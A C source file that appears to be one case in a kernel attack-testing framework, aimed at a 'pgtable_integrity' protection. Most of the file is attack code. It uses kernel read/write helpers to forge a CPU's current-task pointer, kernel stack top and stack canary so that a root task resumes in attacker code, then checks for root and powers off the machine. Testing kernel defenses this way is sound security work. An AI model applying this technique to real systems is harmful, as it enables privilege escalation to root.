// SPDX-License-Identifier: GPL-2.0-only
#include "forged_chain.h"

ATTACK("pgtable_integrity", "preempted_as_root",
       "pgtable_integrity: a task on the page tables of another",
       "While a child runs in user mode on the other CPU, the program tells that CPU that "
       "a program of root is running there, on its kernel stack; the child is preempted, "
       "and its registers are those that root's program goes on with.",
       "A task that leaves a CPU leaves the page tables that the seal of its stack names.",
       "Root's program wakes up in the attacker's code.");

#define ROOM 1200

static bool control(void)
{
	return is_ordinary();
}

/* Where root's program has memory, too. */
static char common_stack[4096];

/* Both have it at the same address, each for itself; only root's program sets it. */
static volatile bool in_root;

/* No call until root's program has come here in the child's place. */
static _Noreturn void spin_and_see(void)
{
	while (!in_root)
		__asm__ volatile("pause");
	if (call0(__NR_geteuid) == 0)
		say_result("WON");
	for (;;)
		call4(__NR_reboot, LINUX_REBOOT_MAGIC1, LINUX_REBOOT_MAGIC2,
		      LINUX_REBOOT_CMD_POWER_OFF, 0);
}

static _Noreturn void go_to_common_stack(void)
{
	__asm__ volatile("movq %0, %%rsp; call *%1"
			 :
			 : "r"(common_stack + sizeof(common_stack)), "r"(spin_and_see)
			 : "memory");
	__builtin_unreachable();
}

/* Takes the other CPU from the child as soon as it is told to. */
static _Noreturn void preempt(const volatile bool *now)
{
	(void)own_cpu(0);
	while (!*now)
		sleep_milliseconds(1);
	(void)own_cpu(1);
	for (;;)
		__asm__ volatile("pause");
}

static bool fire(void)
{
	volatile bool *now = (volatile bool *)call6(__NR_mmap, 0, 4096, PROT_READ | PROT_WRITE,
						    MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	const uint64_t task = own_task(), other = victim_task(task), cpu = own_cpu(1);
	const uint64_t top = peek(other + member("task.stack_top"));
	const long id = fork_program();
	uint64_t child;

	if (id == 0)
		go_to_common_stack();
	(void)own_cpu(0);
	if (fork_program() == 0)
		preempt(now);
	do
		child = peek(cpu + member("cpu.current"));
	while (peek32(child + member("task.id")) != (uint32_t)id);
	/* What the child's interrupt leaves on the stack must not reach what the sleeper needs. */
	do
		sleep_milliseconds(20);
	while (outermost_return(other, top) - 1 >= top - ROOM);
	poke(cpu + member("cpu.current"), other);
	poke(cpu + member("cpu.kernel_stack_top"), top);
	/* What the interrupt puts on that stack is compared when the sleeper goes on. */
	poke(cpu + member("cpu.stack_canary"), peek(other + member("task.arch.stack_canary")));
	*now = true;
	for (;;)
		sleep_milliseconds(100);
}

static void victim(void)
{
	in_root = true;
	for (;;)
		sleep_milliseconds(400);
}
